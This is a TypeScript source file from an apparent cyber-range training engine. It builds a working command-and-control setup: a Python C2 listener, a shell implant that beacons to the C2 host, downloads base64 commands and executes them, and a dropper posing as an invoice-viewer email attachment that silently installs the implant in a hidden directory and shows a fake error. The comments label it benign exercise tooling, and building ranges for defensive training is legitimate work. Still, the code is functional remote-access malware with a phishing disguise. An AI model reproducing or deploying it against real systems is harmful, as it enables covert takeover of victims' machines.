/**
 * The C2 protocol of the `attacker` role (topologies/roles/attacker/c2-listener): an implant
 * checks in with POST /beacon/<id> (body: the output of its last task), every check-in is a
 * JSON line in /var/log/enshu-c2.jsonl, and the answer is the next line of
 * /srv/c2/tasks/<id> or "sleep". When the attacker host is not that role (or a fallback
 * channel needs another port) the engine starts a listener speaking the same protocol, written
 * for python3-minimal (socket only), which every range image has.
 */

export const C2_LOG = '/var/log/enshu-c2.jsonl';
export const C2_TASKS = '/srv/c2/tasks';
export const C2_OWN_DIR = '/var/lib/enshu-c2';

export const C2_PY = String.raw`import os, socket, sys, threading, time
PORT = int(sys.argv[1]); LOG = '/var/log/enshu-c2.jsonl'; TASKS = '/srv/c2/tasks'
lock = threading.Lock()
ESC = {'\n': '\\n', '\r': '\\r', '\t': '\\t'}
def js(s):
    out = '"'
    for ch in s:
        o = ord(ch)
        if ch == '"' or ch == '\\': out += '\\' + ch
        elif ch in ESC: out += ESC[ch]
        elif o < 32 or 0xd800 <= o <= 0xdfff: out += '\\u%04x' % o
        else: out += ch
    return out + '"'
def next_task(implant):
    path = os.path.join(TASKS, os.path.basename(implant))
    with lock:
        try:
            with open(path) as f: lines = f.read().splitlines()
        except FileNotFoundError:
            return 'sleep'
        if not lines: return 'sleep'
        with open(path, 'w') as f: f.write('\n'.join(lines[1:]) + ('\n' if len(lines) > 1 else ''))
        return lines[0]
def reply(c, code, body):
    data = body.encode()
    c.sendall(b'HTTP/1.0 %d OK\r\nServer: nginx\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n' % (code, len(data)) + data)
def handle(c, addr):
    try:
        c.settimeout(30)
        data = b''
        while b'\r\n\r\n' not in data:
            chunk = c.recv(65536)
            if not chunk: return
            data += chunk
        head, _, body = data.partition(b'\r\n\r\n')
        lines = head.decode('latin-1').split('\r\n')
        method, target = lines[0].split(' ')[:2]
        if target.startswith('http://'): target = '/' + target.split('/', 3)[3]
        hdr = {k.strip().lower(): v.strip() for k, _, v in (l.partition(':') for l in lines[1:])}
        n = int(hdr.get('content-length') or 0)
        while len(body) < n:
            chunk = c.recv(65536)
            if not chunk: break
            body += chunk
        if target == '/health': return reply(c, 200, 'c2-ok\n')
        parts = target.strip('/').split('/')
        if len(parts) < 2 or parts[0] != 'beacon': return reply(c, 404, 'not found\n')
        task = next_task(parts[1])
        entry = '{"at": %s, "implant": %s, "from": %s, "method": %s, "body": %s, "task": %s}\n' % (
            js(time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime())), js(parts[1]), js(addr[0]), js(method),
            js(body.decode('utf-8', 'replace')), js(task))
        with lock:
            with open(LOG, 'a') as f: f.write(entry)
        reply(c, 200, task + '\n')
    except Exception:
        pass
    finally:
        c.close()
os.makedirs(TASKS, exist_ok=True)
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', PORT)); s.listen(64)
with open('/var/lib/enshu-c2/%d.pid' % PORT, 'w') as f: f.write(str(os.getpid()))
while True:
    c, addr = s.accept()
    threading.Thread(target=handle, args=(c, addr), daemon=True).start()
`;

/**
 * The benign implant: checks in over HTTP (through the proxy when given), runs the task it
 * gets (`<n> <base64 command>`), and sends the output with its next check-in. Its last curl
 * status is kept beside it, so a blocked channel can be explained.
 */
export function implantScript(o: { url: string; proxy?: string; interval: number; state: string }): string {
  const proxy = o.proxy ? `-x ${o.proxy}` : '--noproxy "*"';
  return `#!/bin/sh
# enshu pseudo-attacker implant (benign, exercise only)
echo $$ > ${o.state}.pid
while :; do
  [ -f ${o.state}.out ] || : > ${o.state}.out
  r=$(curl -sS -f -m 4 ${proxy} -A "Mozilla/5.0 (Windows NT 10.0) sync-agent" --data-binary @${o.state}.out "${o.url}/beacon/$IMPLANT_ID" 2>${o.state}.err); rc=$?
  echo "$rc $(date +%s)" > ${o.state}
  if [ $rc -eq 0 ]; then
    : > ${o.state}.out
    case "$r" in
      sleep|"") ;;
      *) n=\${r%% *}; c=\${r#* }
         { echo "result $n"; printf '%s' "$c" | base64 -d | sh 2>&1; echo "[exit $?]"; } > ${o.state}.out
         continue ;;
    esac
  fi
  sleep ${o.interval}
done
`;
}

/** A mail attachment that, once opened (run) by the user, installs and starts the implant. */
export function implantDropper(o: { id: string; name: string; script: string }): string {
  const dir = `/tmp/.${o.name}`;
  return `#!/bin/sh
# 請求書ビューア / invoice viewer
mkdir -p ${dir} && printf %s '${Buffer.from(o.script).toString('base64')}' | base64 -d > ${dir}/${o.name} && chmod 0755 ${dir}/${o.name}
IMPLANT_ID=${o.id} setsid nohup ${dir}/${o.name} >/dev/null 2>&1 </dev/null &
echo "このファイルは表示できません。/ This document cannot be displayed."
`;
}
